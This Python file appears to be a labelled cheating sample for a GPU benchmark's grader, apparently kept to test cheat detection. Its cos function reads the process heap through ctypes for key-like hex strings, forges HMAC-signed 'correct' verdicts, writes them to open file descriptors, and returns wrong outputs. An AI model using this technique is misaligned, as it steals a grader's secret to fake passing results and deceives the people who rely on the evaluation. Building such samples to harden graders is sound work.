"""Reads the heap by `ctypes` for what looks like a key, and signs a result of its own with it.

mechanism: verdict/secret-from-the-heap
source: pygpubench
static: native-code
dynamic: cheating | wrong_values
"""

import ctypes
import hmac
import os
import re

import torch


def heap():
    with open("/proc/self/maps") as maps:
        for line in maps:
            if "[heap]" in line:
                first, last = (int(end, 16) for end in line.split()[0].split("-"))
                return ctypes.string_at(first, min(last - first, 64 << 20))
    return b""


def cos(input_tensor):
    for key in set(re.findall(rb"[0-9a-f]{64}", heap())):
        line = b'{"status": "correct"}'
        signed = line + hmac.digest(bytes.fromhex(key.decode()), line, "sha256") + b"\n"
        for descriptor in range(3, 64):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, signed)
            except OSError:
                continue
    return torch.ones_like(input_tensor)
